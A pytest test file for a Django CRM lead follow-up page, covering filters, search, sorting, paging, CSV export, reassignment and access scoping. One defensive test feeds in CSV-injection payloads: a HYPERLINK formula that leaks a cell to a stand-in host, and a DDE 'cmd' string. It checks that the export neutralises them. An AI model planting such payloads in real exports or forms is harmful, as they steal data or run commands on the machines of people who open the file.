"""The follow-up page (SPEC S3): rows, filters, search, sorting, paging, htmx fragments, CSV,
expanded rows, the setter panel, reassignment and scoping."""

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
import time_machine
from django.http import QueryDict
from django.urls import reverse
from django.utils import timezone

from calls.services import call_log
from leads.follow_up import CALL_HISTORY_LENGTH, CSV_HEADER, PAGE_SIZE, csv_lines, follow_up_page
from leads.models import Contact, LifecycleStage, OwnerChange, OwnerChangeSource
from tests.factories import CallRecordFactory, ContactFactory, DealFactory, OwnerFactory, TaskFactory

pytestmark = pytest.mark.django_db
URL = reverse("follow-up")
TABLE = {"HX-Request": "true", "HX-Target": "follow-up-table"}


def ago(**kwargs):
    return timezone.now() - timedelta(**kwargs)


def called(owner, days: float, **kwargs) -> Contact:
    return ContactFactory(
        owner=owner, last_call_at=ago(days=days), call_count=1, outgoing_call_count=1, **kwargs
    )


def names_in(response) -> list[str]:
    """Contact names of the table rows, in order."""
    html = response.content.decode()
    rows = html.split('class="fu-row"')[1:]
    return [row.split("<strong>", 1)[1].split("</strong>", 1)[0] for row in rows]


def exported(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


# --- the page ---------------------------------------------------------------------------


def test_manager_sees_every_lead_with_its_columns(manager_client, setter, other_setter):
    mine = called(
        setter.owner,
        2,
        first_name="Amal",
        last_name="Haddad",
        city="Abu Dhabi",
        lead_source="Facebook",
        assigned_coach="Coach Carla",
        lifecycle_stage=LifecycleStage.OPPORTUNITY,
        health_score=72,
        health_zone="GREEN",
        last_call_status="answered",
        last_call_outcome="connected",
        last_call_note="Wants a callback after Eid",
    )
    DealFactory(contact=mine, name="Gold package", amount=Decimal("12500"), stage_label="Proposal")
    called(other_setter.owner, 4, first_name="Omar", last_name="Other")
    response = manager_client.get(URL)
    assert response.status_code == 200
    html = response.content.decode()
    for text in [
        "Amal Haddad",
        "Omar Other",
        "Abu Dhabi",
        "Facebook",
        "Coach Carla",
        "Opportunity",
        "Wants a callback after Eid",
        "Answered · Connected",  # the last call as people read it, not its stored values
        "Gold package",
        "Proposal",
        "AED 12,500",
        f'href="tel:{mine.phone}"',
        f"https://wa.me/{mine.phone[1:]}",
        'data-days="2"',
        "badge--green",
    ]:
        assert text in html, text
    # the nav link, the manager's tools
    assert 'href="/follow-up/"' in html and 'id="reassign-form"' in html and 'id="follow-up-panel"' in html


def test_rows_are_only_followed_up_stages_not_merged_or_archived(manager_client, setter):
    called(setter.owner, 1, first_name="Kept")
    called(setter.owner, 1, first_name="Subscriber", lifecycle_stage=LifecycleStage.SUBSCRIBER)
    called(setter.owner, 1, first_name="Archived", is_archived=True)
    survivor = called(setter.owner, 1, first_name="Survivor")
    called(setter.owner, 1, first_name="Duplicate", merged_into=survivor)
    assert sorted(names_in(manager_client.get(URL))) == sorted(
        [f"Kept {Contact.objects.get(first_name='Kept').last_name}", survivor.full_name]
    )


def test_days_since_contact_badge_colours(manager_client, setter):
    called(setter.owner, 1, first_name="Green")
    called(setter.owner, 5, first_name="Yellow")
    called(setter.owner, 9, first_name="Red")
    html = manager_client.get(URL, {"sort": "days"}).content.decode()
    assert 'badge--green" data-days="1"' in html
    assert 'badge--yellow" data-days="5"' in html
    assert 'badge--red" data-days="9"' in html


def test_setter_sees_only_their_own_leads_and_no_manager_tools(setter_client, setter, other_setter):
    called(setter.owner, 1, first_name="Mine")
    called(other_setter.owner, 1, first_name="Theirs")
    html = setter_client.get(URL).content.decode()
    assert "Mine" in html and "Theirs" not in html
    assert 'id="reassign-form"' not in html and 'name="setter"' not in html
    # asking for another setter's leads is refused, not silently widened
    assert setter_client.get(URL, {"setter": other_setter.owner.pk}).status_code == 400


def test_anonymous_is_sent_to_login(client):
    response = client.get(URL)
    assert response.status_code == 302 and "/login/" in response["Location"]


def test_post_is_not_allowed(manager_client):
    assert manager_client.post(URL).status_code == 405


def test_bad_filter_is_a_400_with_a_message(manager_client):
    response = manager_client.get(URL, {"priority": "7"})
    assert response.status_code == 400
    assert b"priority" in response.content
    assert manager_client.get(URL, {"format": "xlsx"}).status_code == 400


def test_htmx_request_for_the_table_returns_only_the_table_and_the_cards(manager_client, setter):
    called(setter.owner, 1, first_name="Mina")
    response = manager_client.get(URL, headers=TABLE)
    html = response.content.decode()
    assert response.status_code == 200
    assert html.lstrip().startswith('<section id="follow-up-table"')
    assert "Mina" in html
    assert 'id="follow-up-cards"' in html and 'hx-swap-oob="true"' in html  # cards follow the filters
    assert "<html" not in html and 'id="follow-up-panel"' not in html and 'id="follow-up-filters"' not in html
    assert response["Vary"].count("HX-Target") == 1


def test_htmx_request_for_the_panel_returns_only_the_panel(manager_client, setter):
    called(setter.owner, 1)
    html = manager_client.get(
        URL, headers={"HX-Request": "true", "HX-Target": "follow-up-panel"}
    ).content.decode()
    assert html.lstrip().startswith('<aside id="follow-up-panel"') and "fu-row" not in html


# --- filters ------------------------------------------------------------------------------


def test_filter_by_setter_priority_stage_and_flags_alone_and_combined(manager_client, setter, other_setter):
    never = ContactFactory(owner=setter.owner, first_name="Never", call_count=0, hs_created_at=ago(days=20))
    called(setter.owner, 5, first_name="Medium")
    called(setter.owner, 1, first_name="Low", lifecycle_stage=LifecycleStage.SQL)
    called(other_setter.owner, 10, first_name="Cold")
    coachless = called(setter.owner, 1, first_name="Coachless", lifecycle_stage=LifecycleStage.CUSTOMER)

    def first_names(**params):
        return sorted(n.split()[0] for n in names_in(manager_client.get(URL, params)))

    assert first_names(setter=setter.owner.pk) == ["Coachless", "Low", "Medium", "Never"]
    assert first_names(priority=1) == ["Never"]
    assert first_names(priority=2) == ["Cold", "Medium"]
    assert first_names(priority=3) == ["Coachless", "Low"]
    assert first_names(stage=["salesqualifiedlead", "customer"]) == ["Coachless", "Low"]
    assert first_names(flag="going_cold") == ["Cold", "Never"]
    assert first_names(flag=["going_cold", "no_calls"]) == ["Never"]
    assert first_names(flag="missing_coach") == [coachless.first_name]
    assert first_names(setter=setter.owner.pk, flag="going_cold") == [never.first_name]
    assert first_names(setter=setter.owner.pk, priority=2, stage="lead") == ["Medium"]


def test_unassigned_filter(manager_client, setter):
    ContactFactory(owner=None, first_name="Orphan", call_count=0)
    called(setter.owner, 1, first_name="Owned")
    assert [n.split()[0] for n in names_in(manager_client.get(URL, {"setter": "none"}))] == ["Orphan"]


@pytest.mark.parametrize(
    "typed",
    ["050 123 4567", "0501234567", "+971 50 123 4567", "00971501234567", "971-50-123-4567", "50 1234567"],
)
def test_search_finds_a_phone_typed_in_any_local_format(manager_client, setter, typed):
    ContactFactory(owner=setter.owner, first_name="Phoned", phone="+971501234567")
    ContactFactory(owner=setter.owner, first_name="Mobile", phone="", mobile="+971501234567")
    ContactFactory(owner=setter.owner, first_name="Other", phone="+971509999999")
    found = sorted(n.split()[0] for n in names_in(manager_client.get(URL, {"q": typed})))
    assert found == ["Mobile", "Phoned"]


def test_search_by_part_of_a_number_name_or_email(manager_client, setter):
    ContactFactory(
        owner=setter.owner,
        first_name="Layla",
        last_name="Nasser",
        email="layla@example.com",
        phone="+971501112233",
    )
    ContactFactory(
        owner=setter.owner,
        first_name="Omar",
        last_name="Farouk",
        email="omar@sample.org",
        phone="+971504445566",
    )

    def first_names(q):
        return sorted(n.split()[0] for n in names_in(manager_client.get(URL, {"q": q})))

    assert first_names("050 111") == ["Layla"]
    assert first_names("layla nasser") == ["Layla"]
    assert first_names("NASS") == ["Layla"]
    assert first_names("sample.org") == ["Omar"]
    assert first_names("nobody") == []


# --- sorting and paging -------------------------------------------------------------------


def test_default_sort_is_priority_then_longest_without_contact(manager_client, setter):
    called(setter.owner, 1, first_name="Low")
    called(setter.owner, 10, first_name="MediumOld")
    called(setter.owner, 4, first_name="MediumNew")
    ContactFactory(owner=setter.owner, first_name="High", call_count=0)
    order = [n.split()[0] for n in names_in(manager_client.get(URL))]
    assert order == ["High", "MediumOld", "MediumNew", "Low"]


@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        ("days", ["B", "C", "A"]),  # fewest days since contact first
        ("-days", ["A", "C", "B"]),
        ("name", ["A", "B", "C"]),
        ("-name", ["C", "B", "A"]),
        ("outgoing", ["B", "A", "C"]),
        ("-created", ["C", "B", "A"]),
        ("-deal_amount", ["B", "A", "C"]),
        ("health", ["C", "A", "B"]),
    ],
)
def test_sorting_by_columns(manager_client, setter, sort, expected):
    ContactFactory(
        owner=setter.owner,
        first_name="A",
        last_name="A",
        last_call_at=ago(days=9),
        call_count=5,
        outgoing_call_count=5,
        hs_created_at=ago(days=30),
        open_deal_amount=100,
        health_score=50,
    )
    ContactFactory(
        owner=setter.owner,
        first_name="B",
        last_name="B",
        last_call_at=ago(days=1),
        call_count=2,
        outgoing_call_count=2,
        hs_created_at=ago(days=20),
        open_deal_amount=900,
        health_score=90,
    )
    ContactFactory(
        owner=setter.owner,
        first_name="C",
        last_name="C",
        last_call_at=ago(days=4),
        call_count=7,
        outgoing_call_count=7,
        hs_created_at=ago(days=10),
        open_deal_amount=None,
        health_score=10,
    )
    response = manager_client.get(URL, {"sort": sort}, headers=TABLE)
    assert [n.split()[0] for n in names_in(response)] == expected


def test_sort_links_reverse_the_current_sort_and_keep_the_filters(manager_client, setter):
    called(setter.owner, 1)
    html = manager_client.get(URL, {"sort": "days", "stage": "lead"}).content.decode()
    assert 'href="?stage=lead&amp;sort=-days"' in html
    assert 'aria-sort="ascending"' in html


def test_pagination(manager_client, setter):
    for i in range(PAGE_SIZE + 3):
        called(setter.owner, 1, first_name=f"Lead{i:03d}", last_name="X")
    first = manager_client.get(URL, {"sort": "name"}, headers=TABLE)
    second = manager_client.get(URL, {"sort": "name", "page": 2}, headers=TABLE)
    assert len(names_in(first)) == PAGE_SIZE
    assert names_in(second) == [f"Lead{i:03d} X" for i in range(PAGE_SIZE, PAGE_SIZE + 3)]
    assert "Page 2 of 2" in second.content.decode()
    assert 'href="?sort=name&amp;page=2"' in first.content.decode()
    # a page past the end shows the last one rather than an error
    assert "Page 2 of 2" in manager_client.get(URL, {"sort": "name", "page": 99}).content.decode()


def test_count_matches_the_rows_with_and_without_summary_shortcut(manager_client, setter, other_setter):
    for days in (1, 5, 9):
        called(setter.owner, days, first_name=f"S{days}")
        called(other_setter.owner, days, first_name=f"O{days}")

    def count(**params):
        html = manager_client.get(URL, params, headers=TABLE).content.decode()
        return int(html.split('data-testid="row-count"><strong>')[1].split("<")[0]), len(names_in_html(html))

    def names_in_html(html):
        return html.split('class="fu-row"')[1:]

    for params in [
        {},
        {"setter": setter.owner.pk},
        {"priority": 2},
        {"flag": "going_cold"},
        {"setter": other_setter.owner.pk, "flag": "going_cold"},
        {"q": "S9"},
        {"flag": "no_calls"},
    ]:
        total, rows = count(**params)
        assert total == rows, params


# --- summary cards and the setter panel ------------------------------------------------


def test_summary_cards_count_and_link_to_their_filter(manager_client, setter, other_setter):
    ContactFactory(owner=setter.owner, call_count=0)  # HIGH, going cold? no: created 30 days ago -> yes
    called(setter.owner, 5)  # MEDIUM
    called(setter.owner, 1, lifecycle_stage=LifecycleStage.CUSTOMER)  # LOW, missing coach
    called(other_setter.owner, 9)  # MEDIUM, going cold
    html = manager_client.get(URL).content.decode()

    def card(name):
        return html.split(f'data-card="{name}"')[1].split('stat__value">')[1].split("<")[0]

    assert (card("high"), card("medium"), card("low"), card("total")) == ("1", "2", "1", "4")
    assert (card("going_cold"), card("missing_coach")) == ("2", "1")
    assert 'href="?priority=1"' in html and 'href="?flag=going_cold"' in html
    # with a setter chosen the cards are that setter's, and their links keep the setter
    one = manager_client.get(URL, {"setter": other_setter.owner.pk}).content.decode()
    assert one.split('data-card="total"')[1].split('stat__value">')[1].split("<")[0] == "1"
    assert f'href="?setter={other_setter.owner.pk}&amp;priority=1"' in one


@time_machine.travel(datetime(2026, 3, 2, 8, 0, tzinfo=UTC), tick=False)  # Monday noon in Dubai
def test_setter_panel_figures_and_no_calls_alert(manager_client, setter, other_setter):
    quiet = OwnerFactory(first_name="Quiet", last_name="Setter")
    called(setter.owner, 0.1)  # called this morning
    contact = called(setter.owner, 9)  # going cold
    ContactFactory(owner=setter.owner, call_count=1, last_call_at=ago(days=2), next_task_due_at=ago(hours=2))
    call_log(contact=contact, owner=setter.owner, status="answered", outcome="connected")
    CallRecordFactory(contact=ContactFactory(owner=quiet), owner=quiet, started_at=ago(hours=30))
    html = manager_client.get(URL).content.decode()

    def line(owner):
        return html.split(f'data-setter="{owner.pk}"')[1].split("</tr>")[0]

    def figure(owner, name):
        return line(owner).split(f'data-figure="{name}">')[1].split("<")[0]

    assert figure(setter.owner, "leads") == "3"
    assert figure(setter.owner, "called_today") == "2"
    assert figure(setter.owner, "going_cold") == "0"  # the cold one was just called
    assert figure(setter.owner, "overdue") == "1"
    assert 'data-alert="no-calls"' not in line(setter.owner)
    assert 'data-alert="no-calls"' in line(quiet)  # last call 30 hours ago
    assert 'data-alert="no-calls"' in line(other_setter.owner)  # never called
    # a click on a setter filters the table to them
    assert f'hx-get="?setter={setter.owner.pk}"' in line(setter.owner)


def test_setter_sees_only_their_own_panel_line(setter_client, setter, other_setter):
    called(setter.owner, 1)
    html = setter_client.get(URL).content.decode()
    assert f'data-setter="{setter.owner.pk}"' in html
    assert f'data-setter="{other_setter.owner.pk}"' not in html


# --- CSV export ---------------------------------------------------------------------------


def test_csv_export_is_exactly_the_filtered_sorted_rows_with_the_table_columns(
    manager_client, setter, other_setter
):
    lead = called(
        setter.owner,
        9,
        first_name="Zaid",
        last_name="Cold",
        city="Sharjah",
        last_call_note="Sent prices",
        last_call_status="no_answer",
    )
    DealFactory(contact=lead, name="Trial", amount=Decimal("15000"))
    lead.open_deal_amount = Decimal("15000")
    lead.save()
    called(setter.owner, 8, first_name="Yara", last_name="Colder")
    called(setter.owner, 1, first_name="Warm", last_name="Lead")
    called(other_setter.owner, 9, first_name="Other", last_name="Cold")
    params = {"setter": setter.owner.pk, "flag": "going_cold", "sort": "name"}
    response = manager_client.get(URL, {**params, "format": "csv"})
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="follow-up-')
    rows = exported(response)
    assert rows[0] == CSV_HEADER
    table = names_in(manager_client.get(URL, params))
    assert [r[CSV_HEADER.index("Name")] for r in rows[1:]] == table == ["Zaid Cold", "Yara Colder"]
    zaid = dict(zip(CSV_HEADER, rows[1], strict=True))
    assert zaid["Priority"] == "HIGH" and "Going cold" in zaid["Flags"]
    assert zaid["City"] == "Sharjah" and zaid["Last call note"] == "Sent prices"
    assert zaid["Last call status"] == "No answer"
    assert zaid["Deal"] == "Trial" and zaid["Deal amount (AED)"] == "15000.00"
    assert zaid["Days since contact"] == "9" and zaid["Setter"] == str(setter.owner)


def test_csv_keeps_arabic_names_for_excel(manager_client, setter):
    called(setter.owner, 1, first_name="مريم", last_name="العلي")
    rows = exported(manager_client.get(URL, {"format": "csv"}))
    assert rows[1][CSV_HEADER.index("Name")] == "مريم العلي"


def test_setter_csv_has_only_their_leads(setter_client, setter, other_setter):
    called(setter.owner, 1, first_name="Mine")
    called(other_setter.owner, 1, first_name="Theirs")
    rows = exported(setter_client.get(URL, {"format": "csv"}))
    assert [r[CSV_HEADER.index("Name")].split()[0] for r in rows[1:]] == ["Mine"]


def test_csv_export_neutralises_formulas_but_keeps_phones_and_the_database_as_typed(manager_client, setter):
    # given: what a hostile lead form or a careless setter can type
    note = '=HYPERLINK("http://x/?d="&B2,"Open")'
    called(setter.owner, 1, first_name="+cmd|' /C calc'!A0", last_name="", last_call_note=note)
    called(setter.owner, 2, first_name="@SUM(1+1)", last_name="", phone="+971501234567")
    called(setter.owner, 3, first_name="-2+3", last_name="")
    # when
    rows = exported(manager_client.get(URL, {"format": "csv", "sort": "name"}))
    # then: each is text in the spreadsheet, the phone stays dialable, the database unchanged
    by_name = {row[CSV_HEADER.index("Name")]: dict(zip(CSV_HEADER, row, strict=True)) for row in rows[1:]}
    assert set(by_name) == {"'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3"}
    assert by_name["'+cmd|' /C calc'!A0"]["Last call note"] == "'" + note
    assert by_name["'@SUM(1+1)"]["Phone"] == "+971501234567"
    assert Contact.objects.filter(last_call_note=note, first_name="+cmd|' /C calc'!A0").exists()


def test_csv_reads_rows_in_chunks_with_a_fixed_number_of_queries_per_chunk(
    manager, setter, django_assert_max_num_queries
):
    for i in range(25):
        lead = called(setter.owner, i % 10, first_name=f"L{i}")
        DealFactory(contact=lead)
    page = follow_up_page(user=manager, params=QueryDict())
    assert page.is_valid()
    # 25 rows in chunks of 10: per chunk one read, its owners and its deals
    with django_assert_max_num_queries(3 * 3 + 2):
        lines = list(csv_lines(page, chunk_size=10))
    assert len(lines) == 26


# --- expanded row ---------------------------------------------------------------------------


def test_expanded_row_shows_last_calls_open_deals_tasks_and_owner_history(
    manager_client, manager, setter, other_setter
):
    contact = called(setter.owner, 1, first_name="Hana")
    for i in range(CALL_HISTORY_LENGTH + 5):
        CallRecordFactory(contact=contact, started_at=ago(days=i + 1), notes=f"note {i}")
    DealFactory(contact=contact, name="Open deal", amount=3000)
    DealFactory(contact=contact, name="Won deal", is_closed=True, is_won=True)
    TaskFactory(contact=contact, subject="Send brochure", due_at=ago(hours=3))
    OwnerChange.objects.create(
        contact=contact,
        from_owner=other_setter.owner,
        to_owner=setter.owner,
        changed_at=ago(days=3),
        source=OwnerChangeSource.MANUAL,
        changed_by=manager,
    )
    url = reverse("follow-up-row", args=[contact.pk])
    response = manager_client.get(url, headers={"HX-Request": "true"})
    html = response.content.decode()
    assert response.status_code == 200 and "<html" not in html
    assert html.count("data-call=") == CALL_HISTORY_LENGTH
    assert "note 0" in html and "note 24" not in html
    assert "Open deal" in html and "Won deal" not in html
    assert "Send brochure" in html and "overdue since" in html
    assert f"{other_setter.owner} → {setter.owner}" in html and "Maya" in html
    # also a page of its own
    assert b"<html" in manager_client.get(url).content


def test_setter_cannot_expand_another_setters_lead(setter_client, other_setter):
    theirs = called(other_setter.owner, 1)
    assert setter_client.get(reverse("follow-up-row", args=[theirs.pk])).status_code == 404


# --- reassignment -------------------------------------------------------------------------


def test_manager_reassigns_ticked_rows_recorded_as_owner_changes(
    manager_client, manager, setter, other_setter
):
    a = called(setter.owner, 1)
    b = called(setter.owner, 1)
    untouched = called(setter.owner, 1)
    response = manager_client.post(
        reverse("follow-up-reassign"),
        {"to_owner": other_setter.owner.pk, "contact": [a.pk, b.pk], "filters": ""},
        headers={"HX-Request": "true"},
    )
    assert response.status_code == 200
    assert response["HX-Trigger"] == "follow-up-changed"
    assert "Reassigned 2 leads" in response.content.decode()
    assert set(Contact.objects.filter(owner=other_setter.owner).values_list("pk", flat=True)) == {a.pk, b.pk}
    untouched.refresh_from_db()
    assert untouched.owner == setter.owner
    changes = OwnerChange.objects.filter(contact__in=[a, b])
    assert changes.count() == 2
    assert {(c.from_owner, c.to_owner, c.source, c.changed_by) for c in changes} == {
        (setter.owner, other_setter.owner, OwnerChangeSource.MANUAL, manager)
    }


def test_manager_reassigns_all_filtered_rows(manager_client, setter, other_setter):
    cold = [called(setter.owner, 10) for _ in range(3)]
    warm = called(setter.owner, 1)
    response = manager_client.post(
        reverse("follow-up-reassign"),
        {
            "to_owner": other_setter.owner.pk,
            "all_filtered": "on",
            "filters": f"setter={setter.owner.pk}&flag=going_cold&page=1&sort=-days",
        },
        headers={"HX-Request": "true"},
    )
    assert "Reassigned 3 leads" in response.content.decode()
    assert set(Contact.objects.filter(owner=other_setter.owner)) == set(cold)
    warm.refresh_from_db()
    assert warm.owner == setter.owner


def test_reassign_needs_a_setter_and_some_rows(manager_client, setter):
    lead = called(setter.owner, 1)
    no_owner = manager_client.post(
        reverse("follow-up-reassign"), {"contact": [lead.pk]}, headers={"HX-Request": "true"}
    )
    assert no_owner.status_code == 200 and "Choose the setter" in no_owner.content.decode()
    nothing = manager_client.post(reverse("follow-up-reassign"), {"to_owner": setter.owner.pk})
    assert nothing.status_code == 400 and "Tick the leads" in nothing.content.decode()
    assert not OwnerChange.objects.exists()


def test_setter_may_not_reassign(setter_client, setter, other_setter):
    lead = called(setter.owner, 1)
    response = setter_client.post(
        reverse("follow-up-reassign"), {"to_owner": other_setter.owner.pk, "contact": [lead.pk]}
    )
    assert response.status_code == 403
    lead.refresh_from_db()
    assert lead.owner == setter.owner and not OwnerChange.objects.exists()


def test_reassign_get_is_not_allowed(manager_client):
    assert manager_client.get(reverse("follow-up-reassign")).status_code == 405


# --- query budgets ------------------------------------------------------------------------


@pytest.mark.parametrize("count", [3, 30])
def test_page_queries_do_not_grow_with_rows(
    manager_client, setter, other_setter, count, django_assert_max_num_queries
):
    for i in range(count):
        lead = called(setter.owner if i % 2 else other_setter.owner, i % 12)
        DealFactory(contact=lead)
    # session, user, groups, active owners (setter filter and reassign menu), every owner's id
    # and the kept figures, the panel's owners with last calls, the page's ids (one query per
    # priority the page spans: at most three), rows, their owners, their deals
    # ... and, the first time after a write, the owners' figures counted again and stored
    # ... and the manager's large reassignments still moving (one query)
    with django_assert_max_num_queries(16):
        assert manager_client.get(URL).status_code == 200
    with django_assert_max_num_queries(14):
        assert manager_client.get(URL).status_code == 200
    # the table alone: no panel, but a search needs its own count (and the cards come along
    # when the setter changed: here the first request of the browser, so they do)
    with django_assert_max_num_queries(11):
        assert manager_client.get(URL, {"q": "x", "sort": "-days"}, headers=TABLE).status_code == 200


def test_expanded_row_query_budget(manager_client, setter, django_assert_max_num_queries):
    contact = called(setter.owner, 1)
    CallRecordFactory.create_batch(5, contact=contact)
    with django_assert_max_num_queries(8):
        manager_client.get(reverse("follow-up-row", args=[contact.pk]), headers={"HX-Request": "true"})


def test_table_request_brings_new_cards_only_when_the_setter_changes(
    manager_client, setter, django_assert_max_num_queries
):
    called(setter.owner, 1)
    same_setter = {**TABLE, "HX-Current-URL": f"http://testserver/follow-up/?setter={setter.owner.pk}"}
    html = manager_client.get(
        URL, {"setter": setter.owner.pk, "sort": "name"}, headers=same_setter
    ).content.decode()
    assert 'id="follow-up-cards"' not in html
    other = {**TABLE, "HX-Current-URL": "http://testserver/follow-up/"}
    html = manager_client.get(URL, {"setter": setter.owner.pk}, headers=other).content.decode()
    assert 'id="follow-up-cards"' in html


def test_priority_pages_cut_across_priorities_in_the_order_of_one_sorted_query(
    manager, manager_client, setter
):
    # 30 HIGH (never called), 30 MEDIUM, 30 LOW at 50 a page: page 1 = 30 HIGH + 20 MEDIUM,
    # page 2 = 10 MEDIUM + 30 LOW.
    for i in range(30):
        ContactFactory(
            owner=setter.owner, first_name=f"H{i:02d}", call_count=0, hs_created_at=ago(days=40 - i)
        )
        called(setter.owner, 3 + i * 0.1, first_name=f"M{i:02d}")
        called(setter.owner, 2 - i * 0.01, first_name=f"L{i:02d}")
    first = [n.split()[0] for n in names_in(manager_client.get(URL))]
    second = [n.split()[0] for n in names_in(manager_client.get(URL, {"page": 2}))]
    assert first[:30] == [f"H{i:02d}" for i in range(30)]  # never called: oldest row first
    # MEDIUM longest without contact first: M29 (5.9 days) ... M00 (3 days)
    assert first[30:] + second[:10] == [f"M{i:02d}" for i in range(29, -1, -1)]
    assert second[10:] == [f"L{i:02d}" for i in range(30)]
    # cutting the runs gives exactly what one sort of every row gives
    page = follow_up_page(user=manager, params=QueryDict())
    assert page.is_valid()
    assert [r.contact.pk for r in page.rows] == list(page.queryset.values_list("pk", flat=True)[:PAGE_SIZE])


def test_reassign_all_filtered_with_a_filter_that_no_longer_validates_moves_nothing(
    manager_client, setter, other_setter
):
    leads = [called(setter.owner, 10) for _ in range(2)]
    response = manager_client.post(
        reverse("follow-up-reassign"),
        {"to_owner": other_setter.owner.pk, "all_filtered": "on", "filters": "setter=999999&flag=going_cold"},
        headers={"HX-Request": "true"},
    )
    assert response.status_code == 200
    assert not Contact.objects.filter(owner=other_setter.owner).exists()
    assert {c.owner_id for c in Contact.objects.filter(pk__in=[c.pk for c in leads])} == {setter.owner.pk}


def test_a_cached_row_shows_the_leads_new_facts_and_only_managers_get_its_checkbox(
    manager_client, setter_client, setter
):
    """Rows are cached by everything they show: a changed lead is rendered afresh, and a row a
    manager saw (with its reassignment checkbox) is never served to the setter."""
    lead = called(setter.owner, 2, first_name="Mina", city="Dubai")
    first = manager_client.get(URL, headers=TABLE).content.decode()
    assert "Dubai" in first and f'name="contact" value="{lead.pk}"' in first

    Contact.objects.filter(pk=lead.pk).update(city="Sharjah")
    changed = manager_client.get(URL, headers=TABLE).content.decode()
    assert "Sharjah" in changed and "Dubai" not in changed

    own = setter_client.get(URL, headers=TABLE).content.decode()
    assert "Sharjah" in own and 'name="contact"' not in own
